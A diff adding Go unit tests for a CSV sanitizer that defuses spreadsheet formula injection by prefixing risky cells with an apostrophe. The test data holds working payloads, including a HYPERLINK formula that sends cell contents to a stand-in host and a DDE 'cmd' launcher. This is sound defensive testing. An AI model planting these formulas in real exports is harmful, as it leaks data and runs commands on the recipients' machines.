@@ -1,0 +1,55 @@
+package csvsafe
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestCell(t *testing.T) {
+	for in, want := range map[string]string{
+		"":                                    "",
+		"Ana Pérez":                           "Ana Pérez",
+		"=1+1":                                "'=1+1",
+		`=HYPERLINK("http://x/?"&A2,"Click")`: `'=HYPERLINK("http://x/?"&A2,"Click")`,
+		"+cmd|' /C calc'!A0":                  "'+cmd|' /C calc'!A0",
+		"-2+3":                                "'-2+3",
+		"@SUM(A1:A9)":                         "'@SUM(A1:A9)",
+		"\t=1+1":                              "'\t=1+1",
+		"\r=1+1":                              "'\r=1+1",
+		"  =1+1":                              "'  =1+1",
+		"\n=1+1":                              "'\n=1+1",
+		"＝1+1":                                "'＝1+1",
+		"a=b":                                 "a=b",
+		"ana@example.org":                     "ana@example.org",
+		"+12025550142":                        "+12025550142",
+		"-3":                                  "-3",
+		"3.5":                                 "3.5",
+		"+-3":                                 "'+-3",
+		"-":                                   "'-",
+		"2026-01-02T03:04:05Z":                "2026-01-02T03:04:05Z",
+	} {
+		if got := Cell(in); got != want {
+			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestWriterEscapesUnlessRaw(t *testing.T) {
+	for _, raw := range []bool{false, true} {
+		var b strings.Builder
+		w := NewWriter(&b, raw)
+		w.Write([]string{"note", "n"})
+		w.Write([]string{`=HYPERLINK("http://x/?"&A2,"Click")`, "1"})
+		w.Flush()
+		if err := w.Error(); err != nil {
+			t.Fatal(err)
+		}
+		want := "note,n\n\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Click\"\")\",1\n"
+		if raw {
+			want = "note,n\n\"=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Click\"\")\",1\n"
+		}
+		if b.String() != want {
+			t.Errorf("raw=%v: got %q, want %q", raw, b.String(), want)
+		}
+	}
+}
